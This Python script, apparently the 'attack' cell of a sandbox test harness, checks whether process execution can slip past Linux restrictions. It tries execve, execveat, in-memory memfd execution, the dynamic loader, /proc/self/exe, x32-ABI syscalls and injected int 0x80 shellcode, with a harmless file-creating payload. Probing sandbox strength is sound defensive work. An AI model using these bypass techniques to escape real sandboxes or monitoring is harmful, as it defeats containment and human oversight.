# %% setup
# %% forward
# %% attack
import ctypes
import glob
import mmap
import os
import sys
import time
libc = ctypes.CDLL(None, use_errno=True)
with open("mine", "w") as file:
    file.write(f"#!{sys.executable} -S\nopen('began', 'w')\n")
os.chmod("mine", 0o755)
def words(*texts):
    return (ctypes.c_char_p * (len(texts) + 1))(*map(os.fsencode, texts), None)
def run(*texts):
    libc.execve(os.fsencode(texts[0]), words(*texts), None)
def by_descriptor():
    libc.execveat(os.open("mine", os.O_RDONLY), b"", words("mine"), None, 0x1000)
def from_memory():
    descriptor = libc.syscall(319, b"x", 0)
    os.write(descriptor, open("mine", "rb").read())
    run(f"/proc/self/fd/{descriptor}")
python = [sys.executable, "-S", "-c", "open('began', 'w')"]
loaders = glob.glob("/lib*/ld-linux*") + glob.glob("/lib/*/ld-linux*") + ["/lib64/ld-linux-x86-64.so.2"]
ways = [
    lambda: run(os.path.abspath("mine")),
    by_descriptor,
    from_memory,
    lambda: run(loaders[0], *python),
    lambda: run("/proc/self/exe", *python[1:]),
    lambda: libc.syscall(0x40000000 + 520, python[0].encode(), words(*python), None),
]
def in_child(act):
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(7 if act() else 0)
        finally:
            os._exit(0)
    return os.waitpid(pid, 0)[1] == 7 << 8
began = []
for number, way in enumerate(ways):
    in_child(way)
    time.sleep(0.05)
    if os.path.exists("began"):
        began.append(number)
        os.remove("began")
print("programs that ran:", began)
def by_interrupt():
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # getpid of 32 bits
    place = ctypes.addressof(ctypes.c_char.from_buffer(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(place)() == os.getpid()
answered = [in_child(by_interrupt), in_child(lambda: libc.syscall(0x40000000 + 39) == os.getpid())]
print("answered otherwise:", [number for number, each in enumerate(answered) if each])
# %% backward
